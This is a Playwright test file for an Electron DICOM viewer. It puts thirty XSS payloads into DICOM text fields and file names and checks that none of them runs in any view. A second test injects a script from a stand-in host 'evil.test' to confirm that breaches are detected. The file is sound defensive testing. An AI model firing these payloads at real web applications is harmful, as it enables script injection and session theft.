import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { writeInstance } from '../../electron/host/dicom/writeInstance.ts';
import type { Dataset } from '../../electron/host/dicom/dataset.ts';
import { cleanRun } from '../phantoms/runs.ts';
import { cleanSeries } from '../phantoms/series.ts';
import { expect, test } from './app.ts';
import { discFolder, dropPaths, importByWindow, job } from './desk.ts';

/** Each would call `ran` if any view took text for markup, for an address or for code. */
const PAYLOADS = [
  '<script>ran(1)</script>',
  '"><script>ran(2)</script>',
  "'><img src=x onerror=ran(3)>",
  '<img src=x onerror="ran(4)">',
  '<svg onload=ran(5)>',
  '<svg><script>ran(6)</script></svg>',
  '<body onload=ran(7)>',
  '<iframe srcdoc="<script>parent.ran(8)</script>">',
  '<iframe src="javascript:parent.ran(9)">',
  'javascript:ran(10)',
  '<a href="javascript:ran(11)" autofocus onfocus=ran(11)>x</a>',
  '<details open ontoggle=ran(12)>',
  '<input autofocus onfocus=ran(13)>',
  '<video><source onerror=ran(14)></video>',
  '<math><mtext><script>ran(15)</script>',
  '</title><script>ran(16)</script>',
  '</textarea><script>ran(17)</script>',
  '</style><script>ran(18)</script>',
  '<style>@import"javascript:ran(19)"</style>',
  '<link rel=stylesheet href="javascript:ran(20)">',
  '<object data="javascript:ran(21)">',
  '<embed src="javascript:ran(22)">',
  '<meta http-equiv=refresh content="0;url=javascript:ran(23)">',
  '$\u007bran(24)}',
  '{{constructor.constructor("ran(25)")()}}',
  '" onmouseover="ran(26)" x="',
  '<base href="//evil.test/">',
  '<form action="javascript:ran(28)"><button autofocus>x</button></form>',
  '&lt;script&gt;ran(29)&lt;/script&gt;',
  '\u202e<script>ran(30)</script>\u0000<img src=x onerror=ran(30)>',
] as const;

/** Text that a reader needs to make sense of the file stays; every other text becomes the payload. */
const FREE_TEXT: ReadonlySet<string> = new Set(['AE', 'LO', 'LT', 'PN', 'SH', 'ST', 'UC', 'UR', 'UT']);
const poisoned = (dataset: Dataset, payload: string): Dataset =>
  dataset.map((element) =>
    element.kind === 'text' && FREE_TEXT.has(element.vr) ? { ...element, value: payload } : element,
  );
/** As much of a payload as a file name can hold. */
const asFileName = (payload: string): string => payload.replaceAll('/', '\u2215').replaceAll('\u0000', '');

const discs = discFolder('xss');
test.use({ environment: { HOME: discs.path } });

test.beforeAll(() => {
  discs.make();
  PAYLOADS.forEach((payload, at) => {
    const folder = join(discs.path, 'disc', `${at} ${asFileName(payload)}`);
    mkdirSync(folder, { recursive: true });
    for (const { name, dataset, transferSyntaxUid } of cleanSeries({
      key: `xss ${at}`,
      columns: 16,
      rows: 16,
      slices: 6,
    })) {
      writeInstance(
        join(folder, `${name} ${asFileName(payload)}`),
        poisoned(dataset, payload),
        transferSyntaxUid,
      );
    }
    if (at % 10 === 0) {
      const run = cleanRun({ key: `xss ${at}`, study: { uid: `2.25.7${at}` } });
      writeInstance(
        join(folder, `run ${asFileName(payload)}`),
        poisoned(run.dataset, payload),
        run.transferSyntaxUid,
      );
    }
    writeFileSync(
      join(folder, `cut ${asFileName(payload)}`),
      Buffer.concat([Buffer.alloc(128), Buffer.from('DICM'), Buffer.from(payload)]),
    );
  });
});
test.afterAll(() => discs.remove());

/** What ran, opened or was asked for elsewhere in this page. */
async function watched(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.exposeFunction('ran', (which: number) => {
    seen.push(`payload ${which} ran`);
  });
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (fault) => seen.push(`error ${fault.message}`));
  page.on('request', (request) => {
    if (!request.url().startsWith('http://127.0.0.1:') && !/^(blob|data):/.test(request.url()))
      seen.push(request.url());
  });
  page.context().on('page', (other) => seen.push(`page ${other.url()}`));
  page.on('framenavigated', (frame) => {
    if (frame.parentFrame() !== null) seen.push(`frame ${frame.url()}`);
  });
  return seen;
}

test('thirty script payloads in every text field and file name run in no view', async ({ planner, app }) => {
  test.setTimeout(400_000);
  const seen = await watched(planner);
  const [first] = PAYLOADS;
  await planner.getByLabel('Your name').fill(first);
  await planner.keyboard.press('Enter');
  await expect(planner.getByText('No case yet')).toBeVisible();

  await planner.keyboard.press('o');
  await planner.getByRole('option', { name: 'disc' }).press('Enter');
  await expect(planner.getByRole('option')).toHaveCount(PAYLOADS.length);
  await planner.keyboard.press('Escape');
  await importByWindow(planner, 'disc');
  await expect(job(planner, 'disc').getByText('imported', { exact: true })).toBeVisible({ timeout: 60_000 });
  await job(planner, 'disc').getByRole('button', { name: 'Report' }).click();
  await expect(planner.locator('.rejected tbody tr')).not.toHaveCount(0);
  await planner.keyboard.press('Escape');
  await dropPaths(planner, [join(discs.path, 'disc', `3 ${asFileName(PAYLOADS[3])}`)]);

  const rows = planner.locator('tr.case');
  const ids = await rows.evaluateAll((all) => all.map((row) => row.getAttribute('data-case') ?? ''));
  expect(ids.length).toBeGreaterThanOrEqual(PAYLOADS.length - 1);
  for (const id of ids) {
    const row = planner.locator(`[data-case="${id}"]`);
    const name = await row.locator('.patient b').textContent();
    await row.click();
    await planner.keyboard.press('r');
    await expect(planner.getByRole('dialog', { name: 'Import report' })).toBeVisible();
    await planner.keyboard.press('Escape');
    await expect(planner.getByRole('dialog')).toHaveCount(0);
    await row.press('Enter');
    await expect(planner.locator('.banner .who')).toHaveText(name ?? '');
    await expect(planner.getByRole('button', { name: 'Images' })).toHaveAttribute('aria-current', 'page');
    await expect(planner.getByRole('region', { name: /Series/ }).first()).toBeVisible();
    await planner.keyboard.press('1');
  }
  await rows.first().press('Delete');
  await planner.keyboard.press('Escape');
  await planner.keyboard.press('/');
  await planner.keyboard.type(first);
  await planner.keyboard.press('Escape');
  for (const key of [',', '?']) {
    await planner.keyboard.press(key);
    await expect(planner.getByRole('dialog')).toBeVisible();
    await planner.keyboard.press('Escape');
  }
  expect(seen).toEqual([]);
  expect(app.violations()).toEqual([]);
});

test.describe('where the policy is broken on purpose', () => {
  test.use({ mayBreach: true });

  test('the watch of this test sees what it is there for', async ({ planner, app }) => {
    const seen = await watched(planner);
    await planner.evaluate('ran(0)');
    await expect.poll(() => seen).toEqual(['payload 0 ran']);
    await planner
      .evaluate(() => {
        const script = document.createElement('script');
        script.src = 'https://evil.test/x.js';
        document.body.append(script);
      })
      .catch(() => undefined);
    await expect.poll(() => app.violations().length).toBeGreaterThan(0);
  });
});
